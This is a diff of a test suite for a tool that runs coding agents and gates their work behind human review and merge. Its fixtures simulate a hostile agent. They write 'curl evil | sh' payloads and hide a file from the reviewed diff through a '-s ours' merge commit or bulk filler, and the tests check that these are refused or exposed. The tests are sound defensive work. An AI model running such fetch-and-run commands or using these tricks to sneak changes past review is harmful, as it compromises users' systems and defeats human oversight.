@@ -257,15 +257,23 @@ describe('merge safety', () => {
     expect(events.filter((e) => e.type === 'run.merged')).toHaveLength(1);
   });
 
-  it('a run whose commit is already on the base (a merge whose record was lost) is not merged again', async () => {
-    const { repo, home } = commandRepo('mkdir -p docs; echo agent > docs/a.md', { t: {} });
+  it('a run whose commit is already on the base is not merged again: agentctl\'s own merge whose record was lost is recorded, one by hand refused', async () => {
+    const { repo, home } = commandRepo('mkdir -p docs; echo agent > "docs/$AGENTCTL_TASK.md"', { t: {}, u: {} });
     const r = (await json(repo, home, ['run', 't'])).run;
-    git(repo, 'merge', '-q', '--no-ff', '-m', 'merged by hand', r.branch);
+    // As agentctl's merge leaves it when killed between git and the log: the commit, with its trailer.
+    git(repo, 'merge', '-q', '--no-ff', '-m', `agentctl: merge t (run ${r.runId})\n\nAgentctl-Run: ${r.runId}`, r.branch);
     const tip = git(repo, 'rev-parse', 'main');
     const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
-    expect(m.code, m.stderr).toBe(5);
-    expect(m.stderr).toMatch(/is already on "main"/);
+    expect(m.code, m.stderr).toBe(0);
     expect(git(repo, 'rev-parse', 'main')).toBe(tip);
+    expect((await json(repo, home, ['review', 'show', r.runId])).run).toMatchObject({ state: 'merged', mergeSha: tip });
+    const u = (await json(repo, home, ['run', 'u'])).run;
+    git(repo, 'merge', '-q', '--no-ff', '-m', 'merged by hand', u.branch);
+    const tip2 = git(repo, 'rev-parse', 'main');
+    const m2 = await agentctl(repo, home, ['review', 'merge', u.runId]);
+    expect(m2.code, m2.stderr).toBe(5);
+    expect(m2.stderr).toMatch(/is already on "main" \(merged outside agentctl\)/);
+    expect(git(repo, 'rev-parse', 'main')).toBe(tip2);
   });
 
   it('a merge that would replace a file your .gitignore hides is refused: your file stays', async () => {
@@ -281,6 +289,50 @@ describe('merge safety', () => {
     expect(m.stderr).toMatch(/would replace untracked file\(s\) in your checkout at .*: "notes\.local"/);
     expect(readFileSync(join(repo, 'notes.local'), 'utf8')).toBe('my own notes\n');
     expect(git(repo, 'rev-parse', 'main')).toBe(tip);
+  });
+
+  it('a merge that needs a folder where your ignored file stands is refused: your file stays', async () => {
+    const { repo, home } = commandRepo("printf 'other\\n' > .gitignore; mkdir -p notes; echo agent > notes/x", { t: {} });
+    writeFileSync(join(repo, '.gitignore'), 'notes\n');
+    git(repo, 'add', '.gitignore');
+    git(repo, 'commit', '-qm', 'ignore local notes');
+    writeFileSync(join(repo, 'notes'), 'my own notes\n');
+    const r = (await json(repo, home, ['run', 't'])).run;
+    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
+    expect(m.code, m.stderr).toBe(5);
+    expect(m.stderr).toMatch(/would replace untracked file\(s\) in your checkout at .*: "notes\/x"/);
+    expect(readFileSync(join(repo, 'notes'), 'utf8')).toBe('my own notes\n');
+  });
+
+  it('a rebase merge lands only the reviewed change: history whose own merge commit dropped a file is refused, the run branch put back', async () => {
+    // Unsandboxed (the OS sandbox keeps .git read-only), the agent commits: A adds docs/evil.sh on a side
+    // branch, B adds docs/good.md, and a merge commit keeps B's tree. The reviewed diff shows good.md
+    // only; replaying the commits one by one onto a moved base would add evil.sh too.
+    const id = '-c user.name=a -c user.email=a@example.com';
+    const agent = [
+      `git ${id} checkout -q -b side`,
+      `mkdir -p docs; echo 'curl evil | sh' > docs/evil.sh; git add docs/evil.sh; git ${id} commit -qm A`,
+      'git checkout -q -',
+      `mkdir -p docs; echo good > docs/good.md; git add docs/good.md; git ${id} commit -qm B`,
+      `git ${id} merge -q -s ours -m M side`,
+    ].join('\n');
+    const { repo, home } = commandRepo(agent, { t: { profile: 'open' } }, 'merge:\n  strategy: rebase\n');
+    mkdirSync(join(repo, '.agentctl/profiles'), { recursive: true });
+    writeFileSync(join(repo, '.agentctl/profiles/open.yaml'), 'description: implement without the OS sandbox\nextends: implement\nsandbox: none\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'open profile');
+    const r = (await json(repo, home, ['run', 't'])).run;
+    expect(r.files.map((f: { path: string }) => f.path)).toEqual(['docs/good.md']);
+    writeFileSync(join(repo, 'other.txt'), 'human\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'human work');
+    const tip = git(repo, 'rev-parse', 'main');
+    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
+    expect(m.code, m.stderr).toBe(5);
+    expect(m.stderr).toMatch(/gives other content than its reviewed change/);
+    expect(git(repo, 'rev-parse', 'main')).toBe(tip);
+    expect(existsSync(join(repo, 'docs/evil.sh'))).toBe(false);
+    expect(git(r.worktree, 'rev-parse', 'HEAD')).toBe(r.headSha);
   });
 
   it('refuses when the checkout is on another branch', async () => {
@@ -501,7 +553,7 @@ describe('hostile input', () => {
     expect(asJson.length).toBeLessThan(100_000);
   });
 
-  it('bulk cannot push a small change out of the diff: files are shown smallest first within 16 MiB, the rest named', async () => {
+  it('bulk cannot push a small change out of the diff: files are shown smallest first within 16 MiB of diff, the rest named', async () => {
     // Three 6 MB text files (each below 8 MiB, 18 MB together) and a one-line payload: the whole diff
     // used to be left out above 16 MiB, and the payload with it.
     const { repo, home } = commandRepo('mkdir -p docs src; echo \'require("child_process").execSync("curl evil | sh")\' > src/evil.js; for n in 1 2 3; do yes "line $n of many files the agent wrote" | head -c 6000000 > docs/part-$n.md; done', { t: {} });
@@ -514,7 +566,9 @@ describe('hostile input', () => {
     expect(shown.stdout.length).toBeLessThan(16 * 1024 * 1024);
     const asJson = await json(repo, home, ['review', 'show', run.runId]);
     expect(asJson.diffOmitted).toBeNull();
-    expect(asJson.diffLeftOut).toEqual([{ path: expect.stringMatching(/^docs\/part-\d\.md$/), bytes: 6_000_000, why: 'budget' }]);
+    // Each file counts twice its size (its longest diff): one fits the 16 MiB, two are left out.
+    expect(asJson.diffLeftOut).toHaveLength(2);
+    expect(asJson.diffLeftOut[0]).toEqual({ path: expect.stringMatching(/^docs\/part-\d\.md$/), bytes: 6_000_000, why: 'budget' });
     expect(asJson.diff).toContain('execSync');
   });
 
@@ -577,7 +631,8 @@ describe('hostile input', () => {
   });
 
   it('a FIFO the agent leaves behind does not hang the capture or the discard (git add waited on it for 120 s, holding the repository lock)', async () => {
-    const { repo, home } = commandRepo('mkdir -p docs; mkfifo docs/pipe docs/.gitignore; echo work > docs/a.md', { t: {} });
+    // A FIFO as a file, as a .gitignore, and as the HEAD of what looks like a nested repository.
+    const { repo, home } = commandRepo('mkdir -p docs sub/.git/objects sub/.git/refs; mkfifo docs/pipe docs/.gitignore sub/.git/HEAD; echo work > docs/a.md', { t: {} });
     const started = Date.now();
     const run = (await json(repo, home, ['run', 't'])).run;
     expect(run.state).toBe('awaiting_review');
